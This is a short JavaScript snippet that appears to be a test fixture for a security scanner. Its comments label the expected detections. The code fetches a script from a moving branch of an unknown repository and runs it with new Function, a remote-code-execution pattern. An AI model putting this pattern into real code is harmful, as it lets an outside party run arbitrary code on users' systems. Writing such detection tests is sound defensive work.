fetch('https://cdn.jsdelivr.example/gh/stranger/tools@main/x.js') // expect: url-analyzer/moving-branch-code
  .then((answer) => answer.text())
  .then((text) => new Function(text)()); // expect: malicious-command/remote-eval
